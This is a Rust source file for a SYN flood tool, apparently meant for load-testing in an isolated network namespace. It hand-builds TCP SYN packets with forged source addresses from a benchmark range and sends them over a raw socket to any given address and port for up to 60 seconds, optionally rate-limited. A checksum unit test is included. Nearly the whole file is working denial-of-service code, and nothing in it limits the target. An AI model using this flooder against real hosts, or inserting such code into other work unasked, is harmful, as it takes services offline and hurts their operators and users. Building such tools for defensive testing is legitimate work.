//! The flood: SYNs from invented sources, at a rate or as fast as one thread sends them, for a bounded time.

use std::net::{Ipv4Addr, SocketAddr, SocketAddrV4};
use std::time::{Duration, Instant};

use anyhow::{Context, Result};
use socket2::{Domain, Protocol, Socket, Type};

/// Seconds a flood may last.
const SECS_MAX: u64 = 60;
/// Sources are taken from 198.18.0.0/15, which is for benchmarks (RFC 2544).
const SOURCES: u32 = 0xc612_0000;
const SOURCES_MASK: u32 = 0x0001_ffff;
/// Protocol number with which the kernel takes whole IP packets (raw(7)).
const IPPROTO_RAW: i32 = 255;
const PROTOCOL_TCP: u8 = 6;
/// Packets between looks at the clock.
const BATCH: u64 = 64;
const IP_BYTES: usize = 20;
const PACKET_BYTES: usize = 40;

/// Flags.
#[derive(clap::Args)]
pub struct SendArgs {
    /// Where the SYNs go; a namespace made for it
    #[arg(long)]
    to: SocketAddrV4,
    /// For how long
    #[arg(long, value_parser = clap::value_parser!(u64).range(1..=SECS_MAX))]
    secs: u64,
    /// Packets a second at most; as many as possible when absent
    #[arg(long, value_parser = clap::value_parser!(u64).range(1..))]
    rate: Option<u64>,
}

/// Floods and prints how many packets were sent.
pub fn send(args: &SendArgs) -> Result<()> {
    let socket = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::from(IPPROTO_RAW)))
        .context("open a raw socket; root only")?;
    let to = SocketAddr::V4(args.to).into();
    let began = Instant::now();
    let end = began + Duration::from_secs(args.secs);
    let mut tried: u64 = 0;
    let mut sent: u64 = 0;
    let mut state: u32 = 0x9e37_79b9;
    while Instant::now() < end {
        if let Some(rate) = args.rate {
            let due = began + Duration::from_micros(1_000_000 * tried / rate);
            std::thread::sleep(due.saturating_duration_since(Instant::now()));
        }
        tried += BATCH;
        for _ in 0..BATCH {
            state ^= state << 13;
            state ^= state >> 17;
            state ^= state << 5;
            let source = Ipv4Addr::from(SOURCES | (state & SOURCES_MASK));
            // A full queue drops; the flood goes on.
            sent += u64::from(socket.send_to(&syn(source, args.to, state), &to).is_ok());
        }
    }
    println!("{sent}");
    Ok(())
}

/// An IPv4 packet that asks for a connection (RFC 791, RFC 9293). The kernel fills length and header checksum.
fn syn(source: Ipv4Addr, to: SocketAddrV4, sequence: u32) -> [u8; PACKET_BYTES] {
    let [s0, s1, s2, s3] = source.octets();
    let [d0, d1, d2, d3] = to.ip().octets();
    let [p0, p1] = to.port().to_be_bytes();
    let [q0, q1, q2, q3] = sequence.to_be_bytes();
    // The source port is never one that the system reserves.
    let (from0, from1) = (q0 | 0x80, q1);
    let mut packet = [
        0x45,
        0,
        0,
        40,
        0,
        0,
        0x40,
        0,
        64,
        PROTOCOL_TCP,
        0,
        0,
        s0,
        s1,
        s2,
        s3,
        d0,
        d1,
        d2,
        d3, // IP
        from0,
        from1,
        p0,
        p1,
        q0,
        q1,
        q2,
        q3,
        0,
        0,
        0,
        0,
        0x50,
        0x02,
        0xff,
        0xff,
        0,
        0,
        0,
        0, // TCP
    ];
    let (addresses, tcp) = (packet.get(12..IP_BYTES), packet.get(IP_BYTES..));
    let sum = checksum(addresses, tcp);
    if let Some(field) = packet.get_mut(36..38) {
        field.copy_from_slice(&sum.to_be_bytes());
    }
    packet
}

/// TCP's checksum over the pseudo header and the segment.
fn checksum(addresses: Option<&[u8]>, tcp: Option<&[u8]>) -> u16 {
    let words = [addresses.unwrap_or_default(), tcp.unwrap_or_default()]
        .concat()
        .chunks(2)
        .map(|pair| pair.iter().fold(0, |word, byte| word << 8 | u32::from(*byte)))
        .sum::<u32>();
    let mut sum = words + u32::from(PROTOCOL_TCP) + 20;
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !u16::try_from(sum).unwrap_or(0)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_checksum_makes_the_segment_sum_to_nothing() {
        let packet = syn(Ipv4Addr::new(198, 18, 7, 9), "10.77.2.1:20017".parse().unwrap(), 0x0102_0304);
        assert_eq!(checksum(packet.get(12..20), packet.get(20..)), 0);
        assert_eq!(packet.get(22..24), Some(&20017u16.to_be_bytes()[..]));
    }
}
